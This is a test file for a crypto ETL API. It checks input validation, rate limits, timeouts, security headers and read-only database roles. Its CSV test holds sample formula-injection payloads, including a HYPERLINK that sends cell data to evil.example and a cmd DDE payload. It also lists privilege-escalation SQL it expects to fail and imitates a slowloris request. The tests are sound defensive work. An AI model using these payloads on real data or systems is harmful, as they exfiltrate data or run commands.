import { existsSync } from 'node:fs';
import { connect } from 'node:net';
import pg from 'pg';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMetrics } from '../src/internal/metrics.ts';
import { createServer } from '../src/server/createServer.ts';
import { MAX_OFFSET } from '../src/server/pagination.ts';
import { scramVerifier } from '../src/server/readerLogin.ts';
import { openReadOnlyDb } from '../src/server/readOnlyDb.ts';
import { POSTGRES_ADMIN_URL, POSTGRES_ENGINES } from './helpers/databases.ts';
import { type SandboxApp, startSandboxApp } from './helpers/sandboxApp.ts';

const CHROMIUM = '/usr/bin/chromium';
const QUERY_TIMEOUT_MS = 3_000;
const POOL_WAIT_MS = 300;
const REQUEST_TIMEOUT_MS = 1_500;
const READER_PASSWORD = 'reader-secret-0123456789';
const uid = () => `${Date.now().toString(36)}${Math.random().toString(36).slice(2, 6)}`;

/** Runs `fn` while another session holds an exclusive lock on a table, so every read of it waits. */
async function whileLocked<T>(databaseUrl: string, table: string, fn: () => Promise<T>): Promise<T> {
  const locker = new pg.Client({ connectionString: databaseUrl });
  await locker.connect();
  try {
    await locker.query(`BEGIN; LOCK TABLE ${table} IN ACCESS EXCLUSIVE MODE`);
    return await fn();
  } finally {
    await locker.query('ROLLBACK');
    await locker.end();
  }
}

async function admin<T extends pg.QueryResultRow>(sql: string, params: unknown[] = []): Promise<T[]> {
  const client = new pg.Client({ connectionString: POSTGRES_ADMIN_URL });
  await client.connect();
  try {
    return (await client.query<T>(sql, params)).rows;
  } finally {
    await client.end();
  }
}

describe.each(POSTGRES_ENGINES)('API limits on %s', (engine) => {
  // What one engine has and the other lacks (logins, statement timeouts) is tested on that engine only: the test is
  // not registered on the other, rather than shown as skipped.
  const onlyOn = (only: typeof engine) => (engine === only ? it : ((() => {}) as unknown as typeof it));
  let sandbox: SandboxApp;
  // Each run logs in as a role of its own, so parallel files (sharing the cluster's roles) never race on it.
  const apiUser = `ce_api_${uid()}`;
  const get = (url: string, init: RequestInit = {}) => fetch(`${sandbox.url}${url}`, init);

  beforeAll(async () => {
    sandbox = await startSandboxApp(engine, {
      API_QUERY_TIMEOUT_MS: String(QUERY_TIMEOUT_MS),
      API_POOL_WAIT_MS: String(POOL_WAIT_MS),
      API_REQUEST_TIMEOUT_MS: String(REQUEST_TIMEOUT_MS),
      API_DB_USER: apiUser,
      API_DB_PASSWORD: READER_PASSWORD,
    });
  }, 180_000);
  afterAll(async () => {
    await sandbox?.close();
    if (engine === 'postgres') await admin(`DROP ROLE IF EXISTS ${apiUser}`);
  });

  it.each([
    ['/api/coins?limit=Infinity', 'limit', /\(got "Infinity"\): must be a finite number/],
    ['/api/runs?limit=-Infinity', 'limit', /must be a finite number/],
    ['/api/chain/transfers?offset=Infinity', 'offset', /must be a finite number/],
    ['/api/market?offset=1e400', 'offset', /\(got "1e400"\): must be a finite number/],
    ['/api/chain/transfers?offset=1e30', 'offset', /must be <= 10000: deeper rows are reached by narrowing from\/to/],
    ['/api/coins?offset=9223372036854775808', 'offset', /must be <= 10000/],
    [
      '/api/prices?coin=bitcoin&from=0000-01-01',
      'from',
      /\(got "0000-01-01"\): out of range: 1970-01-01 to 9999-12-31/,
    ],
    ['/api/chain/transfers?from=0000-01-01', 'from', /out of range/],
    ['/api/cow/trades?to=1969-12-31T23:59:59Z', 'to', /out of range/],
    ['/api/prices?coin=bitcoin&interval=hourly&to=9999-12-31T23:00:00Z', 'to', /out of range/],
  ])('args: %s is a 400 naming "%s", never a 500 with a database code', async (url, parameter, reason) => {
    const response = await get(url);
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(body).toMatchObject({ error: 'ETL_INPUT_INVALID', parameter, in: 'querystring' });
    expect(body.message).toMatch(reason);
  });

  it('behavior: the deepest page is offset 10000, and it answers fast', async () => {
    expect(MAX_OFFSET).toBe(10_000);
    const started = Date.now();
    const deepest = await get(`/api/chain/transfers?offset=${MAX_OFFSET}&limit=10000`);
    expect(deepest.status).toBe(200);
    expect(await deepest.json()).toMatchObject({ offset: MAX_OFFSET, nextOffset: null });
    expect(Date.now() - started).toBeLessThan(2_000);
    expect((await get(`/api/chain/transfers?offset=${MAX_OFFSET + 1}`)).status).toBe(400);
  });

  it('behavior: CSV cells that a spreadsheet would run as formulas are neutralised (OWASP)', async () => {
    const names = [
      '=1+1',
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+SUM(A1:A9)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1)',
      '\tTAB',
      '\rCR',
      '-1.5',
      'plain',
    ];
    await sandbox.db.writeRows(
      { table: 'staging.coingecko_coins', columns: ['id', 'symbol', 'name'], key: ['id'], onConflict: 'ignore' },
      names.map((name, i) => [`zz-formula-${i}`, `zz${i}`, name]),
    );
    const json = await (await get('/api/coins?search=zz-formula&limit=100')).json();
    expect(json.items.map((c: { name: string }) => c.name)).toEqual(names);

    const csv = await (await get('/api/coins?search=zz-formula&limit=100&format=csv')).text();
    const cells = csv
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.slice(line.indexOf(',', line.indexOf(',') + 1) + 1, line.lastIndexOf(',')));
    expect(cells).toEqual([
      "'=1+1",
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      "'+SUM(A1:A9)",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1)",
      "'\tTAB",
      // A carriage return inside a cell makes it quoted (RFC 4180).
      `"'\rCR"`,
      '-1.5',
      'plain',
    ]);
  });

  it('error: a body trickled at 1 byte every 5 s is answered 408 and closed within API_REQUEST_TIMEOUT_MS', async () => {
    const { port } = new URL(sandbox.url);
    const socket = connect(Number(port), '127.0.0.1');
    let received = '';
    socket.on('data', (chunk) => {
      received += chunk.toString();
    });
    const closed = new Promise<number>((resolve) => socket.on('close', () => resolve(Date.now())));
    await new Promise((resolve) => socket.once('connect', resolve));
    const started = Date.now();
    socket.write(
      'POST /api/jobs/coingecko-coins/run HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 64\r\n\r\n{',
    );
    const trickle = setInterval(() => socket.writable && socket.write(' '), 5_000);
    try {
      const elapsed = (await closed) - started;
      expect(elapsed).toBeGreaterThanOrEqual(REQUEST_TIMEOUT_MS - 100);
      // Node checks the connections once a second: well before the next byte at 5 s.
      expect(elapsed).toBeLessThan(REQUEST_TIMEOUT_MS + 2_000);
      expect(received).toMatch(/^HTTP\/1\.1 408/);
    } finally {
      clearInterval(trickle);
      socket.destroy();
    }
  });

  it('error: more than API_RATE_LIMIT_PER_MIN requests a minute from one client get 429, others go on', async () => {
    const limited = await createServer({
      ...sandbox.app,
      config: { ...sandbox.app.config, api: { ...sandbox.app.config.api, rateLimitPerMin: 5 } },
      metrics: createMetrics({ processMetrics: false }),
    });
    try {
      const from = (remoteAddress: string, url = '/api/status') => limited.inject({ url, remoteAddress });
      for (let i = 0; i < 5; i++) expect((await from('203.0.113.7')).statusCode).toBe(200);
      const refused = await from('203.0.113.7');
      expect(refused.statusCode).toBe(429);
      expect(refused.headers['retry-after']).toMatch(/^\d+$/);
      expect(refused.json()).toMatchObject({
        error: 'ETL_API_RATE_LIMITED',
        message: expect.stringContaining('203.0.113.7'),
      });
      expect((await from('203.0.113.8')).statusCode).toBe(200);
      // Liveness probes are never limited.
      expect((await from('203.0.113.7', '/health')).statusCode).toBe(200);
    } finally {
      await limited.close();
    }
  });

  it('behavior: every answer carries the security headers, the CSP forbids framing and foreign scripts', async () => {
    for (const url of ['/', '/docs/static/index.html', '/api/coins?limit=1', '/status', '/vendor/echarts.min.js']) {
      const response = await get(url);
      expect(response.status, url).toBe(200);
      const csp = response.headers.get('content-security-policy') ?? '';
      expect(csp, url).toContain("frame-ancestors 'none'");
      expect(csp, url).toContain("script-src 'self'");
      expect(csp, url).toContain("object-src 'none'");
      expect(response.headers.get('x-content-type-options'), url).toBe('nosniff');
      expect(response.headers.get('x-frame-options'), url).toBe('DENY');
    }
    // Errors too: the headers are the reply's own, kept by the error handler.
    for (const [url, status] of [
      ['/api/prices?coin=bitcoin&limit=0', 400],
      ['/api/no-such-endpoint', 404],
    ] as const) {
      const response = await get(url);
      expect(response.status, url).toBe(status);
      expect(response.headers.get('content-security-policy'), url).toContain("frame-ancestors 'none'");
      expect(response.headers.get('x-content-type-options'), url).toBe('nosniff');
    }
  });

  onlyOn('pglite')(
    'behavior: under the CSP the dashboard and Swagger UI render in Chromium, with no violation',
    async () => {
      expect(existsSync(CHROMIUM), `Chromium at ${CHROMIUM}`).toBe(true);
      const browser = await chromium.launch({
        executablePath: CHROMIUM,
        args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'],
      });
      try {
        const page = await browser.newPage();
        const violations: string[] = [];
        page.on('console', (message) => {
          if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
        });
        page.on('pageerror', (error) => violations.push(error.message));
        await page.addInitScript(() => localStorage.setItem('refreshSeconds', '0'));

        await page.goto(`${sandbox.url}/#/overview`);
        await page.waitForSelector('body[data-loaded="overview"]', { timeout: 20_000 });
        expect(await page.locator('#chart-dominance canvas').count()).toBeGreaterThan(0);
        expect(await page.locator('#market-table tbody tr').count()).toBe(50);
        // A tooltip is HTML with style attributes: hover a bar of the movers chart to draw one.
        await page.locator('#chart-movers canvas').first().hover();

        await page.goto(`${sandbox.url}/docs`);
        await page.waitForSelector('.opblock', { timeout: 20_000 });
        expect(await page.locator('.opblock').count()).toBeGreaterThan(10);
        expect(violations).toEqual([]);
      } finally {
        await browser.close();
      }
    },
  );

  onlyOn('postgres')(
    'error: a read longer than API_QUERY_TIMEOUT_MS is stopped by PostgreSQL: 503 ETL_QUERY_TIMEOUT',
    async () => {
      const url = sandbox.app.config.databaseUrl as string;
      await whileLocked(url, 'staging.coingecko_coins', async () => {
        const started = Date.now();
        const response = await get('/api/coins');
        expect(Date.now() - started).toBeGreaterThanOrEqual(QUERY_TIMEOUT_MS - 100);
        expect(response.status).toBe(503);
        const body = await response.json();
        expect(body).toMatchObject({
          error: 'ETL_QUERY_TIMEOUT',
          message: expect.stringContaining('API_QUERY_TIMEOUT_MS'),
        });
      });
      expect((await get('/api/coins?limit=1')).status).toBe(200);
    },
  );

  onlyOn('postgres')(
    'error: with every connection busy, a request waits API_POOL_WAIT_MS at most: 503 ETL_API_BUSY, Retry-After',
    async () => {
      const url = sandbox.app.config.databaseUrl as string;
      await whileLocked(url, 'staging.coingecko_coins', async () => {
        // The pool's 10 connections wait on the lock (10 different requests: identical ones share one query)...
        const stuck = Array.from({ length: 10 }, (_, i) => get(`/api/coins?limit=${i + 11}`));
        await expect
          .poll(async () => (await waitingOnLock(url, apiUser)).length, { timeout: 5_000, interval: 50 })
          .toBe(10);
        // ...so the 11th waits for a connection, and gives up.
        const started = Date.now();
        const busy = await get('/api/runs?limit=1');
        expect(Date.now() - started).toBeLessThan(QUERY_TIMEOUT_MS);
        expect(busy.status).toBe(503);
        expect(busy.headers.get('retry-after')).toBe('1');
        expect(await busy.json()).toMatchObject({ error: 'ETL_API_BUSY' });
        for (const response of await Promise.all(stuck)) expect(response.status).toBe(503);
      });
      expect((await get('/api/runs?limit=1')).status).toBe(200);
    },
  );

  onlyOn('postgres')(
    'behavior: when the client goes away, its query is cancelled in PostgreSQL, not left running',
    async () => {
      const url = sandbox.app.config.databaseUrl as string;
      await whileLocked(url, 'staging.coingecko_coins', async () => {
        const client = new AbortController();
        // A request not answered before, so not from the answer cache.
        const request = get('/api/coins?limit=3', { signal: client.signal }).catch(() => 'aborted');
        await expect.poll(async () => (await waitingOnLock(url, apiUser)).length, { timeout: 5_000 }).toBe(1);
        const abortedAt = Date.now();
        client.abort();
        expect(await request).toBe('aborted');
        // Long before statement_timeout would have stopped it.
        await expect.poll(async () => (await waitingOnLock(url, apiUser)).length, { timeout: 1_500 }).toBe(0);
        expect(Date.now() - abortedAt).toBeLessThan(QUERY_TIMEOUT_MS);
      });
      expect((await get('/api/coins?limit=1')).status).toBe(200);
    },
  );

  onlyOn('postgres')(
    "error: the API's login cannot take the superuser back: set_config('role', …), SET ROLE, SET SESSION AUTHORIZATION",
    async () => {
      const reader = await openReadOnlyDb(sandbox.app.config, sandbox.db);
      try {
        const [who] = await reader.db.query<{ session: string; current: string }>(
          'SELECT session_user AS session, current_user AS current',
        );
        expect(who).toEqual({ session: apiUser, current: 'crypto_etl_readonly' });
        for (const sql of [
          `SELECT set_config('role', 'postgres', false)`,
          `SELECT set_config('role', 'postgres', true)`,
          'SET ROLE postgres',
          'SET SESSION AUTHORIZATION postgres',
          `SELECT set_config('session_authorization', 'postgres', false)`,
        ]) {
          await expect(reader.db.query(sql), sql).rejects.toThrow(/permission denied|must be superuser/);
        }
        // NOINHERIT: the login's own privileges are none; only as the reader role does it read. (RESET ROLE
        // goes back to the connection's `-c role=`, the reader role.)
        await expect(reader.db.exec('SET ROLE NONE; SELECT id FROM staging.coingecko_coins LIMIT 1')).rejects.toThrow(
          /permission denied/,
        );
        await expect(reader.db.exec(`SET default_transaction_read_only = off; DELETE FROM etl.runs`)).rejects.toThrow(
          /permission denied|read-only transaction/,
        );
      } finally {
        await reader.db.close();
      }
      const [role] = await admin<Record<string, unknown>>(
        `SELECT rolcanlogin, rolinherit, rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls,
           rolpassword FROM pg_authid WHERE rolname = $1`,
        [apiUser],
      );
      expect(role).toMatchObject({
        rolcanlogin: true,
        rolinherit: false,
        rolsuper: false,
        rolcreaterole: false,
        rolcreatedb: false,
        rolreplication: false,
        rolbypassrls: false,
      });
      // The stored verifier is API_DB_PASSWORD's (sent hashed: the password itself never reaches the server).
      const verifier = String(role?.rolpassword);
      const salt = Buffer.from(verifier.split('$')[1]?.split(':')[1] ?? '', 'base64');
      expect(verifier).toBe(scramVerifier(READER_PASSWORD, salt));
    },
  );

  onlyOn('postgres')('error: a login that can do more than read is refused at start', async () => {
    const strong = `ce_api_strong_${uid()}`;
    await admin(`CREATE ROLE ${strong} LOGIN CREATEDB IN ROLE crypto_etl_readonly`);
    try {
      const config = { ...sandbox.app.config, api: { ...sandbox.app.config.api, dbUser: strong } };
      await expect(openReadOnlyDb(config, sandbox.db)).rejects.toThrow(
        new RegExp(`${strong} can do more than read \\(CREATEDB\\)`),
      );
    } finally {
      await admin(`DROP ROLE ${strong}`);
    }
  });

  onlyOn('pglite')(
    'behavior: PGlite has no logins; a statement may take the role back, but only in its read-only transaction',
    async () => {
      const reader = await openReadOnlyDb(sandbox.app.config, sandbox.db);
      const [who] = await reader.db.query<{ current: string }>(
        `SELECT set_config('role', 'postgres', true) AS taken, current_user AS current`,
      );
      expect(who?.current).toBe('postgres');
      await expect(
        reader.db.query(
          `WITH taken AS (SELECT set_config('role', 'postgres', true)) INSERT INTO etl.meta (key, value) SELECT 'x', '1' FROM taken`,
        ),
      ).rejects.toThrow(/read-only transaction/);
      // The next read starts as the reader role again.
      const [next] = await reader.db.query<{ current: string }>('SELECT current_user AS current');
      expect(next?.current).toBe('crypto_etl_readonly');
    },
  );
});

/** The API login's sessions waiting on a lock. */
async function waitingOnLock(databaseUrl: string, user: string): Promise<unknown[]> {
  const client = new pg.Client({ connectionString: databaseUrl });
  await client.connect();
  try {
    const { rows } = await client.query(
      `SELECT pid FROM pg_stat_activity WHERE usename = $1 AND state = 'active' AND wait_event_type = 'Lock'`,
      [user],
    );
    return rows;
  } finally {
    await client.end();
  }
}
